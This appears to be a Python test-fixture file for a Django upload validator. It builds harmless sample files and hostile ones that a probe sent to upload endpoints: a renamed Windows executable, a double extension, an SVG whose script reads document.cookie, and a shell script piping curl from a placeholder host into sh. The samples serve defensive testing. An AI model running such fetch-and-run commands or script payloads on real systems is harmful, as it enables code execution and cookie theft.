"""Sample files, good and bad, built in memory: what people upload and what a probe tries."""

import io
import zipfile

from django.core.files.uploadedfile import SimpleUploadedFile

MB = 1024 * 1024

PDF = b"%PDF-1.4\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x02\x00\x00\x00"
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xd9"
WEBP = b"RIFF\x1a\x00\x00\x00WEBPVP8L\x0d\x00\x00\x00/\x00\x00\x00\x10\x07\x10\x11\x11\x88\x88"
CSV = "commune;logements\nSaint-Ouen-sur-Seine;4000\nRéau;120\n".encode()
TXT = "Compte rendu de la réunion publique du 12 mars.\n".encode("cp1252")
# A Windows program: "MZ", the DOS stub, then the PE header.
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 44 + b"PE\x00\x00"
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56
SCRIPT = b"#!/bin/sh\ncurl https://exemple.invalid/x | sh\n"
SVG = (
    b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert(document.cookie)</script></svg>"
)
HTML = b"<!DOCTYPE html><html><body><script>fetch('/compte/')</script></body></html>"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504


def _zip(members, first=None):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        if first:
            archive.writestr(first[0], first[1], compress_type=zipfile.ZIP_STORED)
        for name, content in members.items():
            archive.writestr(name, content, compress_type=zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


def ooxml(folder="word/", extra=None):
    return _zip(
        {"[Content_Types].xml": "<Types/>", f"{folder}document.xml": "<document/>", **(extra or {})}
    )


def odf(kind="text"):
    return _zip(
        {"content.xml": "<office:document-content/>"},
        first=("mimetype", f"application/vnd.oasis.opendocument.{kind}"),
    )


def xlsx():
    from openpyxl import Workbook

    buffer = io.BytesIO()
    book = Workbook()
    book.active.append(["Commune", "Logements"])
    book.save(buffer)
    return buffer.getvalue()


def legacy_office(stream):
    return OLE + stream.encode("utf-16-le") + b"\x00" * 64


def upload(name, content, content_type="application/octet-stream"):
    return SimpleUploadedFile(name, content, content_type=content_type)


def sparse_pdf(path, size=60 * MB):
    """A real PDF header followed by `size` bytes that take no room on disk."""
    with open(path, "wb") as handle:
        handle.write(PDF)
        handle.truncate(size)
    return path


# What a probe posted to every upload endpoint (issue 10, finding 6), but the 60 MB file.
BAD = {
    "exe renamed .pdf": ("rapport.pdf", EXE, "est un programme"),
    "svg with a script": ("plan.svg", SVG, "type de fichier non accepté"),
    "html page": ("page.html", HTML, "type de fichier non accepté"),
    "double extension": ("facture.pdf.exe", EXE, "type de fichier non accepté"),
}
